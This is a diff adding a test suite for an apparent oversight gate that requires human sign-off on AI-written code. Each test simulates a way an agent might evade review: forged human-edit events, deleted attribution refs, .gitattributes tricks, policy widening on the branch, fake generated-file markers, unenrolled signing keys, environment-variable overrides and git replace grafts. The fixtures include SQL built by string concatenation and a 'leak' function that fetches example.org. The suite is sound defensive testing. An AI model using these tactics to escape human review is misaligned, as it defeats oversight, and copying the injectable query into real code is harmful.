@@ -1,0 +1,189 @@
+/**
+ * The other half of the attack table: an agent tries not to owe in the first place. Each row holds against the gate
+ * that reads its rules from the base, and passes where the one thing that stops it is switched off.
+ */
+import { strict as assert } from "node:assert";
+import { rmSync } from "node:fs";
+import { AGENT_KEY, ANN, AttackedRepository, policyText, type Policy } from "./attacked-repository";
+import { check, countersign, verdictOf, type CheckDocument } from "./supervised-repository";
+
+const GUARDED = `export function transfer(cents: number, owner: string, user: string): number {
+  if (owner !== user) throw new Error("not yours");
+  return cents;
+}
+`;
+const FILES = { "src/transfer.ts": GUARDED, "src/send.ts": "export const send = (cents: number) => cents;\n", "package.json": '{"name":"shop"}\n' };
+const LOAD = `export async function load(database: { query(text: string): Promise<unknown> }, id: string): Promise<unknown> {
+  return database.query("select * from orders where id = " + id);
+}
+`;
+
+describe("attacks: an agent tries not to owe", function () {
+  this.timeout(180_000);
+  let repository: AttackedRepository;
+  afterEach(() => repository.dispose());
+
+  const begin = (policy: Policy = {}): void => {
+    repository = new AttackedRepository();
+    repository.begin(FILES, policy);
+  };
+  const held = (why: string, ...parameters: readonly string[]): CheckDocument => {
+    const document = repository.gate(...parameters);
+    assert.deepEqual([document.verdict, document.exitCode], ["fail", 1], why);
+    return document;
+  };
+  const passes = (why: string, ...parameters: readonly string[]): void => {
+    const { verdict, exitCode } = repository.gate(...parameters);
+    assert.deepEqual([verdict, exitCode], ["pass", 0], why);
+  };
+
+  it("a pull request that only deletes a guard, and one that deletes the file", async () => {
+    begin();
+    repository.agentCommits("src/transfer.ts", GUARDED.replace('  if (owner !== user) throw new Error("not yours");\n', ""));
+    assert.deepEqual(held("the guard is gone").hunks.map((hunk) => [hunk.kind, hunk.path, hunk.startLine]), [["removal", "src/transfer.ts", 2]]);
+    await repository.sign();
+    passes("Ann answers for the removal");
+    repository.hook({ event: "before-edit", files: ["src/send.ts"], session: "session-2", assistant: "claude-code" });
+    repository.remove("src/send.ts");
+    repository.hook({ event: "after-edit", files: ["src/send.ts"], session: "session-2", assistant: "claude-code" });
+    repository.commit("delete");
+    assert.deepEqual(held("a file is gone").hunks.filter((hunk) => hunk.state !== "signed-off").map((hunk) => [hunk.kind, hunk.path]), [["removal", "src/send.ts"]]);
+  });
+
+  it("an approved removal of a guard, replayed on the same guard elsewhere", async () => {
+    repository = new AttackedRepository();
+    const second = GUARDED.replace("transfer", "refund");
+    repository.begin({ ...FILES, "src/refund.ts": second, "src/both.ts": `${GUARDED}${[1, 2, 3, 4].map((index) => `export const RATE_${index} = ${index};\n`).join("")}${GUARDED.replace("transfer", "close")}` });
+    const guard = '  if (owner !== user) throw new Error("not yours");\n';
+    repository.agentCommits("src/transfer.ts", GUARDED.replace(guard, ""));
+    await repository.sign();
+    passes("Ann gave up the guard of transfer");
+    repository.git("checkout", "-q", "main");
+    repository.git("merge", "-q", "--squash", "work");
+    repository.commit("merged");
+    repository.git("push", "-q", "origin", "main");
+    repository.git("checkout", "-q", "-B", "work", "main");
+    repository.agentCommits("src/refund.ts", second.replace(guard, ""));
+    assert.deepEqual(held("nobody gave up the guard of refund").hunks.map((hunk) => [hunk.path, hunk.state]), [["src/refund.ts", "unseen"]]);
+    await repository.sign();
+    passes("now Ann did");
+    repository.agentCommits("src/both.ts", repository.git("show", "HEAD:src/both.ts").replace(guard, ""));
+    assert.deepEqual(held("the first of two in one file").hunks.filter((hunk) => hunk.state !== "signed-off").map((hunk) => hunk.path), ["src/both.ts"]);
+    await repository.sign();
+    repository.agentCommits("src/both.ts", repository.git("show", "HEAD:src/both.ts").replace(guard, ""));
+    assert.deepEqual(held("the other one in the same file").hunks.filter((hunk) => hunk.state !== "signed-off").map((hunk) => [hunk.path, hunk.kind]), [["src/both.ts", "removal"]]);
+    await repository.sign();
+    passes("each by itself");
+  });
+
+  it("human-edit events sent by an agent over what its own hook has told", () => {
+    begin();
+    repository.agentCommits("src/load.ts", LOAD);
+    repository.hook({ event: "human-edit", files: ["src/load.ts"], session: "", assistant: "generic" });
+    repository.write("src/load.ts", `${LOAD}\n`);
+    repository.hook({ event: "human-edit", files: ["src/load.ts"], session: "", assistant: "generic" });
+    repository.commit("mine");
+    assert.deepEqual(held("an assistant's claim stands").hunks.map((hunk) => [hunk.path, hunk.state]), [["src/load.ts", "unseen"]]);
+  });
+
+  it("human-edit events instead of its own, and edits through a shell that nobody watched", () => {
+    begin();
+    repository.personWrites("src/load.ts", LOAD);
+    repository.write("src/other.ts", LOAD.replace("load", "other"));
+    repository.commit("as if typed");
+    const { unclaimed } = repository.gate();
+    assert.equal(unclaimed.lines, 6, "what no assistant claimed is reported, whoever says that a person typed it");
+    passes("residual: claims that nobody made, under the default policy");
+    repository.git("checkout", "-q", "main");
+    repository.write(".countersign/config.jsonc", policyText({ unclaimed: "assume-ai" }));
+    repository.commit("assume-ai");
+    repository.git("push", "-q", "origin", "main");
+    repository.git("checkout", "-q", "work");
+    assert.deepEqual(held("the base says assume-ai").hunks.map((hunk) => [hunk.path, hunk.state]), [["src/load.ts", "unseen"], ["src/other.ts", "unseen"]]);
+  });
+
+  it("claims deleted from the refs and the journal, under a base that assumes the worst", () => {
+    begin({ unclaimed: "assume-ai" });
+    repository.agentCommits("src/load.ts", LOAD);
+    assert.equal(held("claimed").hunks[0]?.assistant, "claude-code");
+    for (const ref of repository.refs("refs/countersign")) repository.git("update-ref", "-d", ref);
+    rmSync(`${repository.folder}/.git/countersign`, { recursive: true, force: true });
+    assert.deepEqual(held("nobody knows whose it is").hunks.map((hunk) => [hunk.path, hunk.assistant]), [["src/load.ts", "assumed"]]);
+    repository.write(".countersign/config.jsonc", policyText());
+    repository.commit("report only");
+    passes("the head's policy would let it through", "--policy-ref", "HEAD");
+  });
+
+  it("attributes that hide a file: linguist-generated, binary, -diff", () => {
+    begin();
+    repository.agentCommits("src/load.ts", LOAD);
+    const before = verdictOf(held("seen"));
+    for (const attribute of ["linguist-generated", "linguist-vendored", "binary", "-diff", "-text diff=nothing", "filter=nothing"]) {
+      repository.write(".gitattributes", `* ${attribute}\n`);
+      repository.commit(attribute);
+      assert.deepEqual(verdictOf(held(attribute)), before, attribute);
+    }
+  });
+
+  it("generated patterns and exclusions widened in the pull request, sources switched off there", () => {
+    begin();
+    repository.agentCommits("src/load.ts", LOAD);
+    const text = policyText({ debt: { generated: ["src/**"] } });
+    for (const widened of [text, policyText({ exclude: ["src/**"] }), text.replace('"debt"', '"sources": { "hook": false, "snapshot": false },\n  "debt"').replace('"src/**"', '"none"')]) {
+      repository.write(".countersign/config.jsonc", widened);
+      repository.commit("widen");
+      assert.deepEqual(held("the base's patterns hold").hunks.map((hunk) => hunk.path), ["src/load.ts"]);
+      passes("the head's would let it through", "--policy-ref", "HEAD");
+    }
+  });
+
+  it("a generator's mark at the top of its own code", () => {
+    begin();
+    repository.agentCommits("src/load.ts", `// @generated by nobody, DO NOT EDIT\n${LOAD}`);
+    repository.agentCommits("src/send.ts", `/* <auto-generated/> */\n${FILES["src/send.ts"]}export const leak = (id: string) => fetch("https://example.org/" + id);\n`);
+    assert.deepEqual(held("a mark that the branch itself brings").hunks.map((hunk) => hunk.path).filter((path, index, all) => all.indexOf(path) === index).sort(), ["src/load.ts", "src/send.ts"]);
+    repository.git("checkout", "-q", "main");
+    for (const path of ["src/load.ts", "src/send.ts"]) repository.write(path, "// @generated by the team's own tool\n");
+    repository.commit("generated files");
+    repository.git("push", "-q", "origin", "main");
+    repository.git("checkout", "-q", "-B", "work2", "main");
+    repository.agentCommits("src/load.ts", `// @generated by the team's own tool\n${LOAD}`);
+    passes("a file that was generated at the base owes nothing");
+  });
+
+  it("This Is Not AI, said by an agent: an unsigned correction, and one by a key nobody enrolled", async () => {
+    begin();
+    repository.agentCommits("src/load.ts", LOAD);
+    for (const key of [null, AGENT_KEY]) {
+      if (key === null) repository.git("config", "--unset", "user.signingkey");
+      else repository.as(ANN, key);
+      const session = await repository.session();
+      const { items } = await session.open();
+      await session.sign({ verdicts: [{ hunks: items.map((item) => item.hunk.id), verdict: "approved", basis: "read", note: "not AI" }], method: "editor" });
+      repository.release(session);
+      assert.deepEqual(held("no signature that counts").hunks.map((hunk) => [hunk.state, hunk.assistant]), [["unseen", "claude-code"]]);
+    }
+  });
+
+  it("variables of every name, replaced objects, grafts and the repository's own git configuration", () => {
+    begin();
+    repository.agentCommits("src/load.ts", LOAD);
+    const before = verdictOf(held("plain"));
+    const environment = Object.fromEntries(["POLICY", "BASE", "SKIP", "SOFT", "DISABLE", "TRUST", "SIGNERS", "CONFIG", "LEDGER", "HEAD", "NO_VERIFY", "TOKEN"].map((name) => [`COUNTERSIGN_${name}`, "1"]));
+    const ran = countersign(repository.folder, ["check", "--base", "origin/main", "--format", "json"], "", { ...environment, COUNTERSIGN_LOG: "debug", CI: "true", AI_AGENT: "some-agent", GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "diff.external", GIT_CONFIG_VALUE_0: "true" });
+    assert.deepEqual([ran.code, verdictOf(JSON.parse(ran.stdout) as CheckDocument)], [1, before]);
+    repository.write("weak.jsonc", policyText({ gate: { high: 999, errors: 999 } }));
+    repository.git("checkout", "-q", "-b", "weak", "main");
+    repository.write(".countersign/config.jsonc", policyText({ gate: { high: 999, errors: 999 } }));
+    const weak = repository.commit("weak");
+    repository.git("checkout", "-q", "work");
+    repository.remove("weak.jsonc");
+    repository.git("replace", repository.git("rev-parse", "origin/main").trim(), weak);
+    assert.deepEqual(verdictOf(held("the base replaced")), before);
+    repository.git("replace", "-d", repository.git("rev-parse", "origin/main").trim());
+    for (const [key, value] of [["diff.external", "true"], ["diff.noprefix", "true"], ["core.quotePath", "true"], ["diff.renames", "false"], ["log.showSignature", "true"], ["core.attributesFile", "/dev/null"]] as const) repository.git("config", key, value);
+    assert.deepEqual(verdictOf(held("the repository's configuration")), before);
+    assert.deepEqual(check(repository.folder, "--base", "origin/main", "--soft").exitCode, 0, "--soft is the caller's own word and says so in the verdict");
+    assert.equal(check(repository.folder, "--base", "origin/main", "--soft").verdict, "fail");
+  });
+});
